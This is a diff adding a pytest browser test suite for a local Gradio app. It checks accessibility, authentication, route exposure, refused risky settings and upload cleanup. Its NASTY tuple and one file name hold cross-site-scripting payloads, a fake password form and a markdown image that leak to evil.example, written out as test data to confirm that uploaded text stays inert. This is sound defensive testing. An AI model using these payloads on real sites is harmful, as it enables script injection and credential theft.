@@ -1,0 +1,137 @@
+"""The page in a browser, without teaching: for everybody, closed to strangers, deaf to what texts would have it do."""
+
+import os
+import re
+import signal
+import subprocess
+import sys
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+
+from tests.browser.conftest import ROOT, Site, Visit, free_port, start
+
+pytestmark = [pytest.mark.browser, pytest.mark.slow]
+RULES = {"runOnly": {"type": "tag", "values": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"]}}
+NASTY = (
+    "<img src=http://evil.example/a.png onerror=\"window.pwned=1\">", "![x](http://evil.example/leak.png?secret)",
+    "<script>window.pwned=1</script>", "<div style=\"position:fixed;inset:0;z-index:99999;background:red\">over</div>",
+    "<form action=http://evil.example><input type=password></form>", "<style>body{display:none}</style>",
+)  # fmt: skip
+
+
+def nasty_table(path: Path) -> Path:
+    rows = [f"{text} number {n},{NASTY[(n + 1) % len(NASTY)]} and words {n}" for n, text in enumerate(NASTY * 5)]
+    lines = ["question,answer", *('"' + row.replace('"', '""').replace(",", '","', 1) + '"' for row in rows)]
+    path.write_text("\n".join(lines), encoding="utf-8")
+    return path
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [1360, 390])
+def test_every_tab_can_be_read_and_used_by_everybody(serve: Callable[..., Site], visit: Callable[..., Visit],
+                                                     scheme: str, width: int) -> None:  # fmt: skip
+    from axe_playwright_python.sync_playwright import Axe
+
+    seen = visit(serve().address, color_scheme=scheme)
+    page = seen.page
+    page.set_viewport_size({"width": width, "height": 860})
+    for name in ("Examples", "Model", "Teach", "Compare"):
+        page.get_by_role("tab", name=name).click()
+        page.get_by_role("tabpanel").filter(visible=True).first.wait_for()
+        page.wait_for_timeout(600)
+        found = Axe().run(page, options=RULES).response["violations"]
+        assert not found, [(rule["id"], rule["nodes"][0]["target"]) for rule in found]
+        assert page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 1, name
+    assert not seen.errors and not seen.outside
+
+
+def test_words_in_a_table_stay_words(serve: Callable[..., Site], visit: Callable[..., Visit], tmp_path: Path) -> None:
+    seen = visit(serve().address)
+    page = seen.page
+    page.locator(".start input[type=file]").set_input_files(nasty_table(tmp_path / "<img src=x onerror=pwned=1>.csv"))
+    page.get_by_role("button", name="Yes, this is right").click()
+    page.get_by_text("How the model will read it").last.wait_for()
+    page.get_by_role("button", name="Next: choose a model").wait_for()
+    page.wait_for_timeout(1500)
+    assert page.evaluate("window.pwned") is None
+    assert page.locator("form, input[type=password], .prose img, .prose style").count() == 0
+    assert not seen.outside, seen.outside
+    assert not [error for error in seen.errors if "evil" in error], seen.errors
+
+
+def test_strangers_on_this_computer_see_nothing(serve: Callable[..., Site]) -> None:
+    address = serve().address
+    site = address.split("/?")[0]
+    assert httpx.get(f"{site}/healthz").json() == {"status": "ok"}
+    assert httpx.get(site).status_code == 401
+    assert httpx.get(f"{site}/config").status_code == 401
+    assert httpx.get(address, headers={"host": "evil.example"}).status_code == 421
+    policy = httpx.get(address, follow_redirects=True, headers={}).headers["content-security-policy"]
+    assert "'unsafe-eval'" not in policy
+
+
+def test_no_route_of_gradio_is_open_that_was_not_named(serve: Callable[..., Site]) -> None:
+    from gradio.routes import App
+
+    address = serve().address
+    with httpx.Client(base_url=address.split("/?")[0]) as client:
+        client.get(f"/?{address.split('/?')[1]}")
+        probe = App.create_app(__import__("gradio").Blocks())
+        paths = {re.sub(r"\{[^}]*\}", "x", getattr(route, "path", "")) for route in probe.routes}
+        opened = {path for path in paths if path and client.get(path).status_code == 200}
+    assert opened <= {"/", "/config", "/config/", "/theme.css", "/favicon.ico", "/manifest.json", "/gradio_api/app_id",
+                      "/gradio_api/startup-events", "/gradio_api/heartbeat/x"}  # fmt: skip
+
+
+@pytest.mark.parametrize("options, environ, said", [
+    (["--host", "0.0.0.0"], {}, "other computers"), ([], {"GRADIO_SERVER_NAME": "0.0.0.0"}, "GRADIO_SERVER_NAME"),
+    ([], {"GRADIO_SHARE": "True"}, "GRADIO_SHARE"), ([], {"GRADIO_ROOT_PATH": "/x"}, "GRADIO_ROOT_PATH"),
+    ([], {"GRADIO_ALLOWED_PATHS": "/"}, "GRADIO_ALLOWED_PATHS"), (["--people"], {}, "not possible yet"),
+])  # fmt: skip
+def test_what_would_open_it_to_others_is_refused_with_a_sentence(tmp_path: Path, options: list[str],
+                                                                 environ: dict[str, str], said: str) -> None:  # fmt: skip
+    done = subprocess.run(
+        [sys.executable, "-m", "studio", "serve", "--home", str(tmp_path / "h"), "--port", str(free_port()),
+         "--no-browser", *options],
+        cwd=ROOT, env={**os.environ, **environ}, capture_output=True, text=True, timeout=120, check=False,
+    )  # fmt: skip
+    assert done.returncode == 2 and said in done.stderr and "Traceback" not in done.stderr
+
+
+def test_a_busy_port_and_a_busy_home_end_with_a_sentence(serve: Callable[..., Site], tmp_path: Path) -> None:
+    first = serve()
+    port = re.search(r":(\d+)/", first.address).group(1)  # type: ignore[union-attr]
+    for home, port_, said in (
+        (tmp_path / "other", port, f"Port {port}"),
+        (first.home, str(free_port()), "already serves"),
+    ):
+        done = subprocess.run(
+            [sys.executable, "-m", "studio", "serve", "--home", str(home), "--port", port_, "--no-browser"],
+            cwd=ROOT, capture_output=True, text=True, timeout=120, check=False,
+        )  # fmt: skip
+        assert done.returncode == 2 and said in done.stderr, done.stderr
+
+
+def test_it_leaves_when_asked_and_gives_the_home_back(tmp_path: Path) -> None:
+    site = start(tmp_path / "home")
+    site.process.send_signal(signal.SIGTERM)
+    assert site.process.wait(timeout=60) == 0
+    again = start(tmp_path / "home")
+    again.process.send_signal(signal.SIGTERM)
+    again.process.wait(timeout=60)
+
+
+def test_uploads_do_not_stay_behind(serve: Callable[..., Site], visit: Callable[..., Visit], tmp_path: Path) -> None:
+    site = serve()
+    page: Any = visit(site.address).page
+    picture = tmp_path / "picture.csv"
+    picture.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 500)
+    page.locator(".start input[type=file]").set_input_files(picture)
+    page.get_by_role("alert").first.wait_for()
+    assert not [path for path in (site.home / "uploads").rglob("*") if path.is_file()]
+    assert not list((site.home / "projects").iterdir())
+    assert (site.home / "uploads").stat().st_mode & 0o077 == 0
